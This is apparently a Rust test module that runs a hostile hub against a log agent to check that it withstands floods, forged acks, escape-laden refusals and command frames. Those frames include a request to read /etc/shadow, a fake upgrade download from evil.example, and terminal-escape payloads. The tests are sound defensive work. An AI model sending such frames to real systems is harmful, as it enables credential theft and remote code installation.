//! Attacks of a hub on an agent that has joined it. It proves its key, so the agent believes that it is its hub; it must not be able to do
//! more than let the agent wait.

use std::sync::{
    Arc, Mutex,
    atomic::{AtomicU64, Ordering},
};

use anyhow::{Context as _, ensure};
use axum::{
    Json, Router,
    extract::{
        State, WebSocketUpgrade,
        ws::{Message, WebSocket},
    },
    response::IntoResponse,
    routing::{get, post},
};
use futures_util::FutureExt as _;
use olog_proto::{
    AgentFrame, HubFrame, JoinLink, Nonce, SecretKey,
    frame::Refusal,
    identity::{HandshakeProof, JoinSecret, Role},
};
use olog_swarm::{now, random};

use crate::arena::{Arena, Memory};
use crate::{Attack, Verdict};

pub(crate) const ATTACKS: &[Attack] = &[
    Attack {
        name: "hub/floods",
        what: "pings, empty fragments and frames without end, whose answers the hub never reads",
        run: |arena| floods(arena).boxed_local(),
    },
    Attack {
        name: "hub/commands",
        what: "frames that would make an agent run, read or write something",
        run: |arena| commands(arena).boxed_local(),
    },
    Attack {
        name: "hub/forged-acks",
        what: "acks of events that were never sent, so that the agent deletes what it holds",
        run: |arena| forged_acks(arena).boxed_local(),
    },
    Attack {
        name: "hub/long-refusals",
        what: "refusals with 250 kB of terminal escapes as their reason",
        run: |arena| long_refusals(arena).boxed_local(),
    },
];

/// What the hostile hub does after its welcome.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Evil {
    Floods,
    Commands,
    ForgedAcks,
    LongRefusals,
}

struct Shared {
    key: SecretKey,
    evil: Evil,
    sessions: AtomicU64,
    frames: Mutex<Vec<String>>,
}

/// A hub that has a key, enrols whoever comes, and then turns on its agents.
async fn hostile(evil: Evil) -> anyhow::Result<(Arc<Shared>, JoinLink)> {
    let shared = Arc::new(Shared {
        key: SecretKey::from_seed(random()?),
        evil,
        sessions: AtomicU64::new(0),
        frames: Mutex::default(),
    });
    let socket = tokio::net::TcpListener::bind("127.0.0.1:0").await?;
    let base = format!("http://{}", socket.local_addr()?);
    let router = Router::new().route("/join", post(join)).route("/agent", get(agent)).with_state(shared.clone());
    tokio::spawn(async move { axum::serve(socket, router).await });
    let link = JoinLink { base, secret: JoinSecret(random()?), hub: shared.key.public().fingerprint(), tls: None };
    Ok((shared, link))
}

async fn join(State(hub): State<Arc<Shared>>) -> impl IntoResponse {
    Json(serde_json::json!({ "hub_key": hub.key.public() }))
}

async fn agent(State(hub): State<Arc<Shared>>, upgrade: WebSocketUpgrade) -> impl IntoResponse {
    upgrade.protocols([olog_proto::SUBPROTOCOL]).on_upgrade(move |socket| async move {
        hub.sessions.fetch_add(1, Ordering::Relaxed);
        // The agent may leave at any point.
        _ = session(&hub, socket).await;
    })
}

async fn session(hub: &Shared, mut socket: WebSocket) -> anyhow::Result<()> {
    let nonce = Nonce(random()?);
    let versions = vec!["olog.2".to_owned()];
    say(&mut socket, &HubFrame::Hello { hub_key: hub.key.public(), nonce, time: now(), versions }).await?;
    let Some(Ok(Message::Text(text))) = socket.recv().await else { anyhow::bail!("no auth") };
    let AgentFrame::Auth(auth) = AgentFrame::decode(&text)? else { anyhow::bail!("no auth") };
    if hub.evil == Evil::LongRefusals {
        let detail = "\u{1b}[2J\u{1b}]0;owned\u{7}".repeat(12_000);
        let why = if hub.sessions.load(Ordering::Relaxed).is_multiple_of(2) {
            Refusal::NewEpoch { detail }
        } else {
            Refusal::Busy { detail }
        };
        return say(&mut socket, &HubFrame::Refused { why }).await;
    }
    let proof = HandshakeProof::new(Role::Hub, nonce, auth.nonce, &auth.name, auth.key, hub.key.public());
    let signature = hub.key.sign(&proof);
    say(
        &mut socket,
        &HubFrame::Welcome {
            acked: u64::MAX >> 1,
            window: u32::MAX,
            ping_every: 0,
            time: now(),
            signature,
            next: None,
            accepts: Vec::new(),
        },
    )
    .await?;
    match hub.evil {
        Evil::Floods => loop {
            socket.send(Message::Ping(vec![0; 125].into())).await?;
        },
        Evil::Commands => {
            for frame in [
                r#"{"run":{"command":"touch /tmp/olog-was-here"}}"#,
                r#"{"config":{"log_dirs":["/etc"]}}"#,
                r#"{"read":{"path":"/etc/shadow"}}"#,
                r#"{"upgrade":{"url":"http://evil.example/agent.deb"}}"#,
            ] {
                socket.send(Message::text(frame)).await?;
            }
            collect(hub, &mut socket).await
        }
        Evil::ForgedAcks => {
            for through in [1_000_000, u64::MAX] {
                say(&mut socket, &HubFrame::Ack { through }).await?;
            }
            collect(hub, &mut socket).await
        }
        Evil::LongRefusals => Ok(()),
    }
}

/// Keeps what the agent says, and acknowledges nothing.
async fn collect(hub: &Shared, socket: &mut WebSocket) -> anyhow::Result<()> {
    while let Some(message) = socket.recv().await {
        if let Message::Text(text) = message? {
            hub.frames.lock().unwrap().push(text.as_str().to_owned());
        }
    }
    Ok(())
}

async fn say(socket: &mut WebSocket, frame: &HubFrame) -> anyhow::Result<()> {
    // Not HubFrame::encode: a hostile hub keeps no bound.
    Ok(socket.send(Message::text(serde_json::to_string(frame)?)).await?)
}

/// Lets an agent join the hostile hub and run for the attack's time; returns its memory's measure.
async fn suffer(arena: &Arena, evil: Evil) -> anyhow::Result<(Arc<Shared>, olog_journeys::world::Agent, String)> {
    let (hub, link) = hostile(evil).await?;
    let mut agent = arena.world.agent_off(&format!("suffers-{evil:?}"), "", "");
    // It has joined, also where the first session is refused: then `join` fails and says so.
    let said = agent.join_by(&link.to_string());
    ensure!(said.status.success() || evil == Evil::LongRefusals, "it does not join: {}{}", said.out, said.err);
    agent.start();
    agent.write("held.err", "what the hub has not stored\n");
    agent.wait("the event is in the spool", |status| status["spool"].as_u64() >= Some(1));
    let memory = Memory::of(agent.daemon.pid());
    tokio::time::sleep(arena.seconds).await;
    let measured = memory.within(0)?;
    ensure!(agent.daemon.is_running(), "the agent ended: {}", agent.daemon.log_text());
    let status = agent.status().context("the agent answers no more")?;
    ensure!(status["spool"].as_u64() >= Some(1), "the agent gave up its event: {status}");
    Ok((hub, agent, measured))
}

async fn floods(arena: &Arena) -> anyhow::Result<Verdict> {
    let (hub, _agent, measured) = suffer(arena, Evil::Floods).await?;
    Ok(Verdict::Held(format!("{} sessions; the agent's {measured}", hub.sessions.load(Ordering::Relaxed))))
}

async fn commands(arena: &Arena) -> anyhow::Result<Verdict> {
    let (hub, _agent, measured) = suffer(arena, Evil::Commands).await?;
    ensure!(!std::path::Path::new("/tmp/olog-was-here").exists(), "the agent ran a command of the hub");
    let frames = hub.frames.lock().unwrap();
    ensure!(!frames.iter().any(|text| text.contains("root:")), "the agent sent a file that the hub named");
    Ok(Verdict::Held(format!("nothing was done; the agent's {measured}")))
}

async fn forged_acks(arena: &Arena) -> anyhow::Result<Verdict> {
    let (_hub, _agent, measured) = suffer(arena, Evil::ForgedAcks).await?;
    Ok(Verdict::Held(format!("the event stays in the spool; the agent's {measured}")))
}

async fn long_refusals(arena: &Arena) -> anyhow::Result<Verdict> {
    let (hub, agent, measured) = suffer(arena, Evil::LongRefusals).await?;
    let sessions = hub.sessions.load(Ordering::Relaxed);
    ensure!(sessions < arena.seconds.as_secs() * 20, "the agent came {sessions} times");
    let status = agent.status().context("no status")?;
    let said = agent.daemon.verb(&["status"]).good();
    let log = agent.daemon.log_text();
    let line = log.lines().map(str::len).max().unwrap_or(0);
    ensure!(line < 2_000, "a line of the log has {line} bytes");
    ensure!(!said.contains('\u{1b}') && !log.contains("\u{1b}]0;"), "escapes of the hub reach a terminal");
    let notes = status["notes"].as_array().map_or(0, Vec::len);
    ensure!(notes <= 3, "{notes} notes were made of refusals");
    Ok(Verdict::Held(format!(
        "{sessions} refusals, {notes} notes, the longest line of the log has {line} bytes; the agent's {measured}"
    )))
}
